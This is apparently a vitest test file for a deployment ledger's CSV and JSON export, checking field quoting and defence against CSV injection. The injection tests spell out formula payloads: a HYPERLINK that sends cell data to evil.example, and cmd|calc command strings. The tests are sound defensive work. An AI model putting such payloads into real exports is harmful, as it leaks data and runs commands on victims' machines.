import { describe, expect, it } from 'vitest';
import { csvField, csvHeader, csvRow, exportRecords } from './export.js';
import { safePaths } from './sanitize.js';
import type { LedgerRecord } from './types.js';

const chain = { seq: 1, id: 'r1', prevHash: '0'.repeat(64), hash: 'a'.repeat(64) };
const app = { namespace: 'shop', name: 'web' };
const deploy = { group: 'apps', kind: 'Deployment', namespace: 'shop', name: 'web' };

const synced: LedgerRecord = {
  ...chain,
  kind: 'sync-applied',
  app,
  time: '2026-01-02T03:04:05.000Z',
  actor: 'ballast',
  revision: 'abc123',
  verification: { mode: 'signed', signer: 'Jane "JJ" Doe, Ops' },
  changes: [{ ref: deploy, action: 'configure', paths: safePaths(deploy, ['/spec/replicas']) }],
};

describe('csvField', () => {
  it('quotes only fields holding a comma, quote, CR or LF, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\r')).toBe('"cr\r"');
  });
});

describe('csvField against CSV injection', () => {
  it("a tenant's actor, revision or reason that starts a formula is exported as text", () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"',
    );
    expect(csvField('+1+cmd|calc')).toBe("'+1+cmd|calc");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe('"\'\r=1"');
    expect(csvField('alice=admin')).toBe('alice=admin');
  });

  it('a forged actor in a whole row is neutralised and the verified column says claimed', () => {
    const row = csvRow({ ...synced, kind: 'resume', actor: '=cmd|calc', actorVerified: false });
    expect(row).toContain(",resume,'=cmd|calc,false,");
  });
});

describe('csvRow', () => {
  it('writes the columns of the header, objects named by formatRef, details as canonical JSON', () => {
    const row = csvRow(synced);
    expect(row.endsWith('\r\n')).toBe(true);
    expect(row).toContain('1,r1,2026-01-02T03:04:05.000Z,shop/web,sync-applied,ballast,,abc123,');
    expect(row).toContain('Deployment.apps/shop/web');
    // The signer's quotes are doubled inside a quoted field.
    expect(row).toContain('""signer"":""Jane \\""JJ\\"" Doe, Ops""');
    expect(csvHeader).toHaveLength(12);
  });
});

async function collect(format: 'json' | 'csv', records: LedgerRecord[]): Promise<string> {
  let out = '';
  await exportRecords(format, [records], (s) => {
    out += s;
  });
  return out;
}

describe('exportRecords', () => {
  it('writes JSON as one array with a record per line', async () => {
    const text = await collect('json', [synced, { ...synced, seq: 2, id: 'r2' }]);
    expect(JSON.parse(text)).toHaveLength(2);
    expect(text.split('\n')).toHaveLength(5);
  });

  it('writes an empty JSON array and a header-only CSV when nothing matches', async () => {
    expect(JSON.parse(await collect('json', []))).toEqual([]);
    expect(await collect('csv', [])).toBe(`${csvHeader.join(',')}\r\n`);
  });
});
